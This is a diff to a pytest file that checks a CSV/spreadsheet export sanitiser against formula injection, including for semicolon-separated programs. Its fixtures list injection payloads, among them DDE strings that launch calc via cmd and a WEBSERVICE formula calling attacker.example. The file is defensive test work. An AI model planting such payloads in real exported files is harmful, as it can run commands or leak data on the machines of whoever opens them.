@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import date
 
 import pytest
@@ -53,7 +54,10 @@ def test_no_cell_of_a_csv_starts_like_a_formula(text):
 
 @pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
 def test_known_attacks_are_defused(text):
-    assert tables.safe(text) == "'" + text
+    found = tables.safe(text)
+
+    assert found.startswith("'")
+    assert found.replace("'", "") == text.replace("'", "")
 
 
 @pytest.mark.parametrize(
@@ -71,7 +75,10 @@ def test_plain_text_numbers_and_coordinates_stay_as_they_are(text):
     "text", ["-1 =1", "-5-3", "-1 2;=1", "+1 A1", "-1e", "-1 2 3 4 5", "-1 2;;@x", "-", "+."]
 )
 def test_what_only_begins_like_a_number_is_defused(text):
-    assert tables.safe(text) == "'" + text
+    found = tables.safe(text)
+
+    assert found.startswith("'")
+    assert found.replace("'", "") == text
 
 
 def test_an_excel_sheet_opens_with_title_notes_and_numbers():
@@ -119,3 +126,30 @@ def test_a_table_with_a_row_too_short_is_refused():
 )
 def test_a_cell_is_written_as_the_language_writes_it(value, language, written):
     assert blocks.in_writing(value, language).casefold() == written.casefold()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "＝1+1",
+        "＠SUM(1)",
+        "work;=HYPERLINK(A1)",
+        "work; +cmd|'/C calc'!A0",
+        'work\n=WEBSERVICE("https://attacker.example")',
+        "work;\t@SUM(1)",
+        "1;2;-cmd|'/C calc'!A0",
+    ],
+)
+def test_no_formula_begins_for_a_program_that_parts_cells_by_semicolons_either(text):
+    table = blocks.Table("T", [blocks.Column("a"), blocks.Column("b")], [["x", text]])
+
+    line = tables.csv(table, notes=False).decode("utf-8-sig").split("\r\n", 1)[1]
+
+    cells = re.split(r"[;\r\n]", line.replace('"', ""))
+    begun = [one.strip(" \t").removeprefix("x,") for one in cells]
+    assert not any(one.startswith(("=", "+", "-", "@", "＝", "＠")) for one in begun)
+
+
+@pytest.mark.parametrize("text", ["one; two", "- one\n- two", "42.1 21.2; -42.1 21.0", "a-b; c=d"])
+def test_text_in_which_no_formula_begins_is_as_it_was(text):
+    assert tables.safe("x\n" + text) == "x\n" + text
